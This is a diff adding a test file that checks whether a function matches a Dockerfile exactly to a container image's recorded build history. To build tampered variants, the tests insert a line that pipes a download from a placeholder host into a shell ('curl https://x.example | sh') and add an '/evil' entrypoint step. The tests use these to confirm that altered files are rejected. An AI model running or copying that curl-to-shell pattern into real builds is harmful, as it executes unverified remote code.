@@ -1,0 +1,77 @@
+import { readFileSync } from "node:fs";
+import { describe, expect, test } from "vitest";
+import { z } from "zod";
+import { chooseDockerfile, type HistoryLine, parseDockerfile } from "../../../shared/dockerfile/index.ts";
+
+/** Dockerfiles, and the histories that real builders wrote for them. */
+const builders = z
+  .object({
+    dockerfiles: z.record(z.string(), z.string()),
+    images: z.array(
+      z.object({
+        builder: z.string(),
+        dockerfile: z.string(),
+        history: z.array(z.object({ createdBy: z.string(), emptyLayer: z.boolean().default(false) })),
+      }),
+    ),
+  })
+  .parse(JSON.parse(readFileSync(new URL("builders.json", import.meta.url), "utf8")));
+
+function isExact(text: string, history: readonly HistoryLine[]): boolean {
+  const layers = history.filter(({ emptyLayer }) => !emptyLayer);
+  return chooseDockerfile([{ path: "Dockerfile", text }], { history, layers }).exact.length === 1;
+}
+
+/** The text with the lines of one instruction of the last stage replaced. */
+function replaced(text: string, line: number, by: string): string {
+  const file = parseDockerfile(text);
+  const instruction = file.instructions.find((each) => each.line === line);
+  if (instruction === undefined) throw new Error(`no instruction at line ${line}`);
+  return text.slice(0, instruction.span.start) + by + text.slice(instruction.span.end);
+}
+
+/** Lines of instructions of the last stage that every builder records. */
+function recordedLines(text: string, optional?: string): readonly number[] {
+  const { instructions } = parseDockerfile(text);
+  const from = instructions.findLastIndex(({ keyword }) => keyword === "FROM");
+  return instructions
+    .slice(from + 1)
+    .filter(({ keyword }) => !["ARG", "ONBUILD", optional].includes(keyword))
+    .map(({ line }) => line);
+}
+
+describe.each(builders.images.map((image) => [`${image.dockerfile} of ${image.builder}`, image] as const))(
+  "the history of Dockerfile %s",
+  (_name, { dockerfile, history }) => {
+    const text = builders.dockerfiles[dockerfile] ?? "";
+
+    test("matches that file exactly and no other", () => {
+      const exact = Object.entries(builders.dockerfiles).filter(([, other]) => isExact(other, history));
+      expect(exact.map(([name]) => name)).toEqual([dockerfile]);
+    });
+
+    test("does not match the file with one more instruction", () => {
+      expect(isExact(`${text}\nRUN echo more\n`, history)).toBe(false);
+      for (const line of recordedLines(text)) {
+        expect(isExact(replaced(text, line, "RUN curl https://x.example | sh"), history), String(line)).toBe(false);
+      }
+    });
+
+    test("does not match the file with one instruction less, except a label and the first, which the base may have", () => {
+      for (const line of recordedLines(text, "LABEL").slice(1)) {
+        expect(isExact(replaced(text, line, ""), history), String(line)).toBe(false);
+      }
+    });
+
+    test("does not match if the image has another step, unless the build's call adds a label", () => {
+      const step = (createdBy: string): HistoryLine => ({ createdBy, emptyLayer: true });
+      expect(isExact(text, [...history, step('ENTRYPOINT ["/evil"]')])).toBe(false);
+      expect(isExact(text, [...history, step("/bin/sh -c #(nop)  LABEL call=1")])).toBe(true);
+      expect(isExact(text, [...history, { createdBy: "/bin/sh -c #(nop) ", emptyLayer: false }])).toBe(false);
+    });
+  },
+);
+
+test("a Dockerfile without steps matches nothing", () => {
+  expect(isExact("FROM a\n", [{ createdBy: 'CMD ["sh"]', emptyLayer: true }])).toBe(false);
+});
